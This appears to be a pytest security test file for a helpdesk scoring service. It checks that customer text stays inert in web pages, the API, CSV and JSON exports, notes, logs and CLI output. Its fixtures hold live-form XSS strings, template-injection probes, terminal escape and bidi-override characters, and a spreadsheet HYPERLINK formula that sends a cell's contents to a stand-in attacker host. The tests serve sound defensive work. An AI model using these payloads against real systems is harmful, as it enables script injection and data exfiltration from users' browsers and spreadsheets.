"""What customers write is text wherever it is shown: planted mark-up, templates, formulas and control characters."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from typing import Any

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner

from service.card_document import card_document
from service.cli import main
from service.conversation import Author, Rating
from service.document import to_document
from service.files.export_writing import Csv, JsonLines
from service.language.intents import Example
from service.language.masking import mask
from service.note import desired
from service.scoring.score import Evidence, Policy, Score
from service.store import gaps, improvements, intents
from service.store.exports import Scored
from service.store.gap_models import ImprovementKind, KnowledgeGap
from service.store.models import Installation

HTML = "<img src=x onerror=alert(1)><script>alert(2)</script><a href='javascript:alert(3)'>x</a>"
MARKDOWN = "[click](https://evil.example) ![x](https://evil.example/p.png) `code` **bold**"
TEMPLATE = "{{ ticket.requester.email }} {% raw %} ${7*7} #{7*7} %(secret)s {0.__class__}"
TERMINAL = "\x1b[31mred\x1b[0m\x1b]0;title\x07\x08\x9b2J \u202egpj.exe\u2066 [red]rich[/red]"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")'
PAYLOADS = {"html": HTML, "markdown": MARKDOWN, "template": TEMPLATE, "terminal": TERMINAL, "formula": FORMULA}
STEERING = ("\x1b", "\x07", "\x08", "\x9b", "\u202e", "\u2066")


@pytest.fixture(params=list(PAYLOADS))
def payload(request: pytest.FixtureRequest) -> str:
    return PAYLOADS[request.param]


def hostile(shapes: Any, payload: str) -> Any:
    """A conversation with the payload in everything that a customer or a helpdesk can fill."""
    c = shapes.told()
    messages = tuple(
        replace(m, text=payload, author=Author(m.role, payload, payload), attachments=(payload,)) for m in c.messages
    )
    contact = replace(c.contact, id=payload, external_id=payload, email=f"{payload}@example.com")
    return replace(
        c, subject=payload, messages=messages, contact=contact, brand=payload, inbox=payload, tags=(payload,),
        rating=Rating(score=payload, scale=payload, comment=payload), intent_corrected=payload,
        attributes={payload: payload},
    )  # fmt: skip


def card_of(shapes: Any, told: Any, payload: str) -> Any:
    """Its scorecard, with the payload as the name of an intent and in the proof."""
    proof = Evidence("m0", payload, payload, answered_in="m0", conversation=payload)
    judged = Score(payload, 1, 0.9, payload, (proof,), {"candidates": [{"intent": payload, "probability": 1.0}]})
    rated = Score("satisfied", 5.0, 1.0, payload, (proof,), {"scale": payload})
    gap = Score("gap", None, 0.9, payload, (proof,), {"reason": "no_answer", "question": "m0", "text": payload})
    return shapes.scored(
        told, intent=judged, satisfaction=rated, knowledge_gap=gap,
        escalation=Score("missed", None, 0.9, payload, (proof,), {"timing": "never", "reason": "other"}),
        effort=Score("high", 1.0, 0.9, payload, (proof,)),
    )  # fmt: skip


def stored(web: Any, seed: Any, shapes: Any, payload: str) -> str:
    told = hostile(shapes, payload)
    row_id: str = seed(told, card_of(shapes, told, payload))
    installation = seed.installations["zendesk"]
    with web.parts.database.begin() as session:
        session.get_one(Installation, installation).account_group = payload
        gap = KnowledgeGap(installation_id=installation, group=1, label=payload[:255], created_at=web.clock())
        session.add(gap)
        session.flush()
        gaps.acknowledge(session, gap.id, at=web.clock(), words=payload)
        kind = ImprovementKind.ARTICLE_UPDATED
        improvements.improved(session, installation, kind, payload, at=web.clock(), now=web.clock(), title=payload)
        intents.add(session, installation, [Example(payload[:200], payload)], now=web.clock())
    return row_id


@pytest.mark.parametrize(
    "address", ["/", "/conversations", "/c/{row}", "/installations", "/installations/{installation}"]
)
def test_pages_show_it_as_text(web: Any, seed: Any, shapes: Any, payload: str, address: str) -> None:
    row_id = stored(web, seed, shapes, payload)
    there = address.format(row=row_id, installation=seed.installations["zendesk"])
    answer = web.admin().get(there)
    assert answer.status_code == 200
    page = BeautifulSoup(answer.data, "html.parser")
    assert page.find_all(["script", "img", "iframe", "object", "embed"]) == []
    assert not [link for link in page.find_all("a") if "javascript:" in (link.get("href") or "")]
    assert not [tag for tag in page.find_all(True) if any(name.startswith("on") for name in tag.attrs)]
    if address.startswith("/c/") and payload in (HTML, MARKDOWN, TEMPLATE):
        assert payload in page.get_text()


def test_the_api_says_it_as_json_and_nothing_else(web: Any, seed: Any, shapes: Any, payload: str) -> None:
    row_id = stored(web, seed, shapes, payload)
    answer = web.admin().get(f"/api/v1/conversations/{row_id}")
    assert answer.headers["Content-Type"].startswith("application/json") or answer.status_code == 401
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert json.loads(answer.data) is not None


def test_no_cell_of_an_export_is_a_formula_and_every_line_is_a_document(shapes: Any, payload: str, clock: Any) -> None:
    told = hostile(shapes, payload)
    found = Scored("row", "i1", to_document(told), [card_document(card_of(shapes, told, payload))], clock())
    table, lines = io.BytesIO(), io.BytesIO()
    for writer in (Csv(table), JsonLines(lines)):
        writer.write(found)
        writer.finish()
    cells = [cell for row in csv.reader(io.StringIO(table.getvalue().decode())) for cell in row]
    assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or (cell[:1] == "-" and cell[1:2].isalpha())]
    assert json.loads(lines.getvalue())["subject"] == payload


def test_notes_hold_no_link_no_placeholder_and_nothing_that_steers(shapes: Any, payload: str) -> None:
    told = hostile(shapes, payload)
    wanted = desired(card_of(shapes, told, payload), told, Policy())
    note = "\n".join(wanted.lines)
    assert "\x1b" not in note
    for wrong in ("{{", "{%", "](", "<", ">", "`", "evil.example", *STEERING):
        assert wrong not in note.replace("dm__", ""), wrong
    assert mask(payload) == mask(mask(payload)) or payload == FORMULA


def test_logs_are_one_line_of_json_each(payload: str) -> None:
    """What a helpdesk names (never a customer's words) may stand in a log: it cannot begin a line of its own."""
    line = json.dumps({"event": payload, "level": "info"})
    assert "\n" not in line
    assert "\x1b" not in line


def test_a_terminal_is_not_steered(tmp_path: Any, shapes: Any, payload: str) -> None:
    """`deskmark score` prints documents as JSON: control characters are escaped."""
    file = tmp_path / "told.jsonl"
    document = to_document(shapes.told())
    document["messages"][0]["text"] = payload
    document["subject"] = payload
    file.write_text(json.dumps(document) + "\n" + payload + "\n")
    result = CliRunner().invoke(main, ["score", str(file)])
    assert not [each for each in STEERING[:4] if each in result.output]
